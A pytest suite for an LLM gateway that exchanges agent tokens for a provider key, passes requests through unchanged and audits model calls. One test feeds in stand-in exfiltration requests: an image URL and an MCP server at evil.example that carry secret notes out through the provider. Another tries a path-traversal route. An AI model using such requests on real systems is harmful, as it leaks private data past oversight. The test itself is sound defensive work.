"""Models: the agent's token in, the provider's key out, every byte as it came, every call in the log."""

import http.client
import json
import threading

import pytest

from claude import Claude
from driver import STRICTLY_TRUSTED, group, stand_in, wait_for
from mcp_http import call, send, within
from model import Model, say as speak, use
from provider import GARBAGE, Provider, fail, garbage, half, raw, say, silence, stall, step_by_step

KEY = "sk-ant-api03-the-real-key-of-the-owner-0123456789"
MESSAGES = "/llm/anthropic/v1/messages"
PROMPT = {"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [{"role": "user", "content": "a very private prompt"}]}


@pytest.fixture
def provider():
    with Provider(KEY) as one:
        yield one


def models(provider, *more, silence_timeout="20s"):
    """A configuration: group `dev` has a model and the stand-in server, group `poor` has none."""

    def sections(gate):
        key = gate.scratch / "key"
        key.write_text(KEY + "\n")
        return "\n".join(
            [
                '[models.main]\napi = "anthropic"\nbase_url = "%s"\nkey = { file = "%s" }' % (provider.url, key),
                'silence_timeout = "%s"' % silence_timeout,
                '[models.demo]\napi = "scripted"',
                stand_in(gate.scratch, "odd", {**STRICTLY_TRUSTED, "public_source": True, "secret_data": True}),
                group("dev", ["odd"]) + 'model = "main/claude-sonnet-4-5"',
                group("poor", ["odd"]),
                group("demo", []) + 'model = "demo/script"',
                *more,
            ]
        )

    return sections


def ask(gate, token, body=PROMPT, path=MESSAGES, seconds=30, **headers):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    headers = {name.replace("_", "-"): value for name, value in headers.items()}
    if token:
        headers = {"Authorization": "Bearer " + token, **headers}
    return send(gate.port, "POST", path, {"Content-Type": "application/json", **headers}, data, seconds)


class Stream:
    """An answer that is read piece by piece."""

    def __init__(self, gate, token, **more):
        self.connection = http.client.HTTPConnection("127.0.0.1", gate.port, timeout=30)
        body = json.dumps({**PROMPT, "stream": True, **more})
        self.connection.request("POST", MESSAGES, body, {"x-api-key": token, "Content-Type": "application/json"})

    def open(self):
        self.response = self.connection.getresponse()
        return self

    def read(self, wanted: bytes) -> bytes:
        """Reads until something has come."""
        got = b""
        while wanted not in got:
            piece = self.response.read1(65536)
            assert piece, "it ended with %r" % got
            got += piece
        return got

    def close(self):
        self.connection.close()


def error_of(answer) -> dict:
    value = json.loads(answer.body)
    assert value["type"] == "error" and value["error"]["message"], value
    return value["error"]


def records(gate) -> list:
    return [row for row in gate.audit() if row["kind"] == "model"]


def closed(gate, count: int = 1) -> list:
    """The records of model calls, when there are so many and all have ended."""
    return wait_for(
        lambda: (lambda rows: len(rows) == count and all(row["outcome"] != "running" for row in rows) and rows)(records(gate)),
        10,
        "end of %d records" % count,
    )


def kept(gate) -> bytes:
    """Everything that the gateway wrote: database and log."""
    return b"".join(path.read_bytes() for path in sorted(gate.data.glob("portcullis.db*"))) + gate.log.read_bytes()


# --- as it came -----------------------------------------------------------------------------------------------------
def test_every_byte_passes_and_only_the_key_is_exchanged(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    body = b'{ "max_tokens":1,\n\t"messages": [{"role":"user","content":"\\u00e9 \xc3\xa9  a very private prompt"}],  "model" : "claude-x" }\n \n'
    answer_bytes = b'{"type":"message",  "content":[],"usage":{"input_tokens":1,"output_tokens":2}}\n\n'
    provider.will(raw(answer_bytes))
    headers = {"anthropic_version": "2023-06-01", "anthropic_beta": "a-1,b-2", "Cookie": "session=1", "X_Forwarded_For": "10.0.0.1"}
    answer = ask(gate, token, body, MESSAGES + "?beta=true", x_api_key=token, **headers)
    assert (answer.status, answer.body) == (200, answer_bytes)
    assert answer.headers["request-id"].startswith("req_") and "set-cookie" not in answer.headers
    assert answer.headers["anthropic-ratelimit-requests-remaining"] == "49"

    (request,) = provider.requests
    assert (request.method, request.path, request.body) == ("POST", "/v1/messages?beta=true", body)
    assert request.all("x-api-key") == [KEY] and request.all("authorization") == []
    assert request.all("anthropic-version") == ["2023-06-01"] and request.all("anthropic-beta") == ["a-1,b-2"]
    assert request.all("cookie") == request.all("x-forwarded-for") == []
    assert token not in str(request.headers)
    closed(gate)


def test_the_other_routes_and_no_more(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    bearer = {"Authorization": "Bearer " + token}
    assert json.loads(ask(gate, token, path=MESSAGES + "/count_tokens").body) == {"input_tokens": 14}
    listed = send(gate.port, "GET", "/llm/anthropic/v1/models?limit=5", bearer)
    assert json.loads(listed.body)["data"][0]["id"] == "claude-sonnet-4-5"
    assert [request.path for request in provider.requests] == ["/v1/messages/count_tokens", "/v1/models?limit=5"]
    assert [row["args"]["path"] for row in closed(gate, 2)] == ["/v1/messages/count_tokens", "/v1/models"]
    for method, path in [
        ("GET", MESSAGES),
        ("DELETE", "/llm/anthropic/v1/models"),
        ("POST", "/llm/anthropic/v1/messages/batches"),
        ("GET", "/llm/anthropic/v1/files"),
        ("GET", "/llm/anthropic/v1/organizations/api_keys"),
        ("POST", "/llm/anthropic/v1/../v1/messages"),
        ("POST", "/llm/anthropic//v1/messages"),
    ]:
        assert error_of(send(gate.port, method, path, bearer))["type"] == "not_found_error", path
    assert send(gate.port, "POST", "/llm/openai/v1/responses", bearer).status == 404
    assert len(provider.requests) == 2


def test_an_event_leaves_before_the_next_one_comes(gateway, provider):
    gate = gateway(models(provider))
    events = [b"event: a\ndata: {\"n\": %d}\n\n" % number for number in range(4)]
    provider.will(step_by_step(*events))
    stream = Stream(gate, gate.token("dev"))
    provider.go.release()
    stream.open()
    for number, event in enumerate(events):
        if number:
            provider.go.release()
        assert stream.read(b"\n\n") == event
    provider.go.release()
    assert stream.response.read() == b""
    stream.close()


def test_a_stream_is_counted_and_recorded(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev", "--name", "laptop")
    provider.will(say("one two three", output=42), say("four", output=8))
    with_stream = ask(gate, token, {**PROMPT, "stream": True})
    assert with_stream.headers["content-type"].startswith("text/event-stream") and b"message_stop" in with_stream.body
    assert json.loads(ask(gate, token).body)["content"][0]["text"] == "four"
    for row, out in zip(closed(gate, 2), (42, 8)):
        assert (row["kind"], row["decision"], row["outcome"], row["group"]) == ("model", "allow", "ok", "dev")
        assert row["tool"] == "model:main__claude-sonnet-4-5" and "laptop" in row["principal"]
        assert row["detail"] == "25 tokens in, %d out, 7 from the cache and 3 into it" % out
        assert row["args"]["messages"] == 1 and len(row["args"]["sha256"]) == 64
    figures = wait_for(lambda: (lambda rows: rows and rows[0]["calls"] == 2 and rows)(gate.cli("status")["models"]), 5, "figures")
    assert figures[0]["name"] == "dev: main/claude-sonnet-4-5"
    assert (figures[0]["input_tokens"], figures[0]["output_tokens"]) == (50, 50)
    assert (figures[0]["cache_read_tokens"], figures[0]["cache_write_tokens"]) == (14, 6)
    written = kept(gate)
    assert KEY.encode() not in written and b"a very private prompt" not in written and token.encode() not in written


# --- whose token ----------------------------------------------------------------------------------------------------
def test_a_token_opens_where_sdks_put_keys_and_nothing_else_does(gateway, provider):
    gate = gateway(models(provider))
    token, other = gate.token("dev"), gate.token("dev")
    assert ask(gate, token).status == 200
    assert ask(gate, None, x_api_key=token).status == 200
    assert ask(gate, token, x_api_key=token).status == 200
    seen = len(provider.requests)
    for headers in (
        {},
        {"x_api_key": KEY},
        {"x_api_key": token + "x"},
        {"x_api_key": token, "Authorization": "Bearer " + other},
        {"x_api_key": token, "Authorization": "Basic Zm9v"},
        {"Authorization": "Bearer " + KEY},
    ):
        answer = ask(gate, None, **headers)
        assert answer.status == 401 and error_of(answer)["type"] == "authentication_error", headers
        assert answer.headers["www-authenticate"].startswith("Bearer")
    assert send(gate.port, "POST", "/mcp", {"x-api-key": token}, b"{}").status == 401, "a key is a token on /llm alone"
    assert len(provider.requests) == seen


def test_a_group_without_a_model_has_none(gateway, provider):
    gate = gateway(models(provider))
    answer = ask(gate, gate.token("poor"))
    assert answer.status == 403 and error_of(answer)["type"] == "permission_error"
    assert not provider.requests and not records(gate)


def test_what_cannot_be_read_is_not_passed_on(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    for body in (b"", b"{", b"[]", b'{"max_tokens":1}', b'{"model":"a\\nb"}', b'{"model":"a","model":"b"}', b'{"model":"a","messages":{}}'):
        answer = ask(gate, token, body)
        assert answer.status == 400 and error_of(answer)["type"] == "invalid_request_error", body
    assert not provider.requests and not records(gate)


def test_a_body_may_be_large_and_not_larger(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    large = {**PROMPT, "messages": [{"role": "user", "content": "x" * (6 << 20)}]}
    assert ask(gate, token, large).status == 200
    assert len(provider.requests[0].body) > 6 << 20
    too_large = b'{"model":"a","x":"' + b"x" * (32 << 20) + b'"}'
    for framing in ({}, {"Transfer_Encoding": "chunked"}):
        assert ask(gate, token, too_large, **framing).status == 413
    assert send(gate.port, "POST", "/mcp", {"Authorization": "Bearer " + token}, b"x" * (5 << 20)).status == 413
    assert len(provider.requests) == 1


# --- a provider that fails ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "status, kind",
    [(401, "authentication_error"), (429, "rate_limit_error"), (500, "api_error"), (529, "overloaded_error")],
)
def test_an_error_of_the_provider_is_the_callers(gateway, provider, status, kind):
    gate = gateway(models(provider))
    token = gate.token("dev")
    provider.will(fail(status, kind, "said the provider", retry_after="17"))
    answer = ask(gate, token, {**PROMPT, "stream": True})
    assert answer.status == status and error_of(answer) == {"type": kind, "message": "said the provider"}
    assert answer.headers["retry-after"] == "17"
    (row,) = closed(gate)
    assert row["outcome"] == "error" and row["detail"].startswith("%d %s: said the provider" % (status, kind))
    assert ask(gate, token).status == 200, "one failure ends nothing"


def test_a_provider_that_is_not_there(gateway):
    with Provider(KEY) as gone:
        pass
    gate = gateway(models(gone))
    answer = ask(gate, gate.token("dev"))
    assert answer.status == 502 and error_of(answer)["type"] == "api_error"
    (row,) = closed(gate)
    assert row["outcome"] == "error" and "cannot be reached" in row["detail"]


def test_half_a_stream_is_told_in_the_stream(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    provider.will(half())
    answer = ask(gate, token, {**PROMPT, "stream": True})
    last = answer.body.decode().strip().split("\n\n")[-1].strip()
    assert last.startswith("event: error\ndata: ") and json.loads(last.split("data: ")[1])["error"]["type"] == "api_error"
    # In the middle of an event no other can follow: the connection breaks, as the provider's did.
    provider.will(half(b'event: content_block_delta\ndata: {"type":"conte'))
    with pytest.raises(http.client.IncompleteRead) as broken:
        ask(gate, token, {**PROMPT, "stream": True})
    assert broken.value.partial.endswith(b'{"type":"conte')
    for row in closed(gate, 2):
        assert row["outcome"] == "error" and row["detail"].startswith("the provider of this model broke off; 25 tokens in, 1 out")


def test_a_provider_that_falls_silent_is_not_waited_for(gateway, provider):
    gate = gateway(models(provider, silence_timeout="1s"))
    token = gate.token("dev")
    provider.will(stall(), silence())
    answer = ask(gate, token, {**PROMPT, "stream": True}, seconds=10)
    assert b"said nothing for too long" in answer.body and answer.body.startswith(b"event: message_start")
    answer = ask(gate, token, seconds=10)
    assert answer.status == 504 and error_of(answer)["type"] == "timeout_error"
    assert [row["outcome"] for row in closed(gate, 2)] == ["error", "error"]
    for _ in range(2):
        assert provider.gone.acquire(timeout=5), "the connection to the provider is still open"


def test_garbage_passes_and_is_called_so_in_the_log(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    provider.will(garbage(), raw(b"<html>oops", kind="application/json"))
    assert ask(gate, token, {**PROMPT, "stream": True}).body == GARBAGE
    assert ask(gate, token).body == b"<html>oops"
    first, second = closed(gate, 2)
    assert first["outcome"] == second["outcome"] == "error"
    assert "ended before its end" in first["detail"] and "no JSON" in second["detail"]


def test_a_redirect_is_not_followed_with_the_key(gateway, provider):
    gate = gateway(models(provider))
    with Provider(KEY) as elsewhere:
        provider.will(raw(b"", 307, location=elsewhere.url + "/v1/messages"))
        assert ask(gate, gate.token("dev")).status == 502
        assert not elsewhere.requests


def test_a_key_that_is_echoed_goes_no_further(gateway, provider):
    gate = gateway(models(provider))
    provider.will(fail(400, "invalid_request_error", "bad header x-api-key: %s" % KEY, request_id=KEY))
    answer = ask(gate, gate.token("dev"))
    assert answer.status == 400 and "bad header" in error_of(answer)["message"]
    assert KEY not in str(answer)
    (row,) = closed(gate)
    assert "bad header" in row["detail"]
    assert KEY.encode() not in kept(gate)


def test_an_exchanged_key_is_fetched_after_the_old_one_was_refused(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    assert ask(gate, token).status == 200
    provider.key = KEY[::-1]
    (gate.scratch / "key").write_text(provider.key)
    assert ask(gate, token).status == 401
    assert ask(gate, token).status == 200
    closed(gate, 3)


def test_without_its_key_nothing_is_sent_and_the_agent_learns_no_path(gateway, provider):
    gate = gateway(models(provider), start=False)
    (gate.scratch / "key").unlink()
    gate.up()
    answer = ask(gate, gate.token("dev"))
    assert answer.status == 502 and "cannot get its key" in error_of(answer)["message"]
    assert str(gate.scratch).encode() not in answer.body and str(gate.scratch) in gate.logged()
    assert not provider.requests and closed(gate)[0]["outcome"] == "error"


# --- a caller that fails --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("how", [stall, silence])
def test_a_caller_that_goes_away_ends_the_call_at_the_provider(gateway, provider, how):
    gate = gateway(models(provider))
    provider.will(how())
    stream = Stream(gate, gate.token("dev"))
    if how is stall:
        stream.open().read(b"message_start")
    wait_for(lambda: provider.requests, 5, "request")
    stream.close()
    assert provider.gone.acquire(timeout=5), "the provider still works for nobody"
    (row,) = closed(gate)
    assert row["outcome"] == "error" and row["detail"].startswith("the caller went away")


def test_a_stream_ends_with_its_token(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev", "--name", "laptop")
    (row,) = gate.rows("token", "list")
    provider.will(stall())
    stream = Stream(gate, token).open()
    stream.read(b"message_start")
    gate.cli("token", "revoke", str(row["id"]))
    assert provider.gone.acquire(timeout=5), "the provider still works for nobody"
    assert closed(gate)[0]["outcome"] == "error"
    stream.close()


def test_calls_at_once_are_limited_and_come_back(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("dev")
    provider.will(*[stall()] * 16)
    streams = [Stream(gate, token).open() for _ in range(16)]
    busy = ask(gate, token)
    assert busy.status == 429 and error_of(busy)["type"] == "rate_limit_error" and busy.headers["retry-after"] == "1"
    assert ask(gate, gate.token("dev")).status == 200, "another conversation is not kept waiting"
    for stream in streams:
        stream.close()
    assert wait_for(lambda: ask(gate, token).status == 200, 10, "free call")
    wait_for(lambda: all(row["outcome"] != "running" for row in records(gate)), 10, "end of the records")


def test_a_call_under_way_when_the_gateway_dies_is_unknown(gateway, provider):
    gate = gateway(models(provider))
    provider.will(stall())
    stream = Stream(gate, gate.token("dev")).open()
    stream.read(b"message_start")
    gate.kill()
    stream.close()
    gate.up()
    (row,) = closed(gate)
    assert row["outcome"] == "unknown" and len(provider.requests) == 1, "it was done again"


def test_a_call_under_way_does_not_keep_the_gateway_from_stopping(gateway, provider):
    gate = gateway(models(provider))
    provider.will(stall())
    stream = Stream(gate, gate.token("dev")).open()
    stream.read(b"message_start")
    got: list = []
    reader = threading.Thread(target=lambda: got.append(stream.response.read()))
    reader.start()
    gate.stop()
    reader.join(10)
    assert b"the gateway is stopping" in got[0]
    stream.close()


# --- policy ---------------------------------------------------------------------------------------------------------
def test_a_rule_can_deny_a_model(gateway, provider):
    rule = '[[rules]]\nname = "no-opus"\ntools = ["model:main__*opus*"]\nthen = "deny"\n'
    rule += '[[rules]]\nname = "ask-about-all"\nthen = "ask"\n'
    gate = gateway(models(provider, rule))
    token = gate.token("dev")
    answer = ask(gate, token, {**PROMPT, "model": "claude-opus-4-1"})
    assert answer.status == 403 and "no-opus" in error_of(answer)["message"] and not provider.requests
    assert ask(gate, token).status == 200, "a model call waits for nobody"
    denied, allowed = closed(gate, 2)
    assert (denied["decision"], denied["outcome"], denied["rules"]) == ("deny", "refused", ["no-opus"])
    assert (allowed["decision"], allowed["rules"]) == ("allow", [])


SEARCH = {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}
PICTURE = [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://evil.example/?notes=secret"}}]}]


def test_the_provider_is_no_way_around_the_gateway(gateway, provider):
    gate = gateway(models(provider))
    clean, dirty = gate.token("dev"), gate.token("dev")
    assert ask(gate, clean, {**PROMPT, **SEARCH}).status == 200, "what is clean may look things up"
    labels = call(gate, dirty, "odd__echo", {"text": "from a stranger, and secret"})
    assert "stranger" in labels.text
    assert ask(gate, dirty).status == 200, "its model still answers"
    for outside in (SEARCH, {"messages": PICTURE}, {"mcp_servers": [{"type": "url", "url": "https://evil.example/mcp", "name": "x"}]}):
        answer = ask(gate, dirty, {**PROMPT, **outside})
        assert answer.status == 403 and "does not wait" in error_of(answer)["message"], outside
    assert len(provider.requests) == 2
    refused = [row for row in records(gate) if row["outcome"] == "refused"]
    assert [row["args"]["provider_reaches"] for row in refused] == [["web_search_20250305"], ["url"], ["mcp_servers"]]
    assert not gate.questions()
    # What the provider looked up is from strangers, too.
    first = records(gate)[0]
    assert first["adds"] == ["untrusted"] and first["labels"] == []


def test_a_secret_in_a_prompt_is_noted_and_not_held(gateway, provider):
    gate = gateway(models(provider))
    leak = {**PROMPT, "messages": [{"role": "user", "content": "the key is " + KEY}]}
    assert ask(gate, gate.token("dev"), leak).status == 200
    (row,) = closed(gate)
    assert (row["decision"], row["reasons"]) == ("allow", ["the request to the model holds a credential"])
    assert KEY.encode() not in kept(gate)


# --- the script -----------------------------------------------------------------------------------------------------
def test_the_script_answers_without_any_network(gateway, provider):
    gate = gateway(models(provider))
    token = gate.token("demo")
    answer = json.loads(ask(gate, token, {**PROMPT, "model": "script"}).body)
    assert "I am a script" in answer["content"][0]["text"] and answer["usage"] == {"input_tokens": 0, "output_tokens": 0}
    streamed = ask(gate, token, {**PROMPT, "model": "script", "stream": True})
    assert streamed.body.count(b"text_delta") > 20 and streamed.body.strip().endswith(b'{"type":"message_stop"}')
    assert json.loads(ask(gate, token, path=MESSAGES + "/count_tokens").body) == {"input_tokens": 0}
    assert [row["tool"] for row in closed(gate, 3)][:2] == ["model:demo__script"] * 2
    assert not provider.requests


# --- a real agent ---------------------------------------------------------------------------------------------------
def test_claude_code_reaches_tools_and_model_with_one_token(gateway):
    with Model([use("mcp__gw__odd__echo", text="through both doors"), speak("done")]) as model:
        gate = gateway(models(model))
        token = gate.token("dev")
        with Claude(model, gate.url + "/mcp", token, base_url=gate.url + "/llm/anthropic", key=token) as claude:
            claude.finish(120)
        assert within(model.result(0).text) == "through both doors"
        assert all(token not in str(request["headers"]) for request in model.requests)
        keys = {value for request in model.requests for name, value in request["headers"].items() if name.lower() == "x-api-key"}
        assert keys == {KEY}
    assert len(records(gate)) >= 2
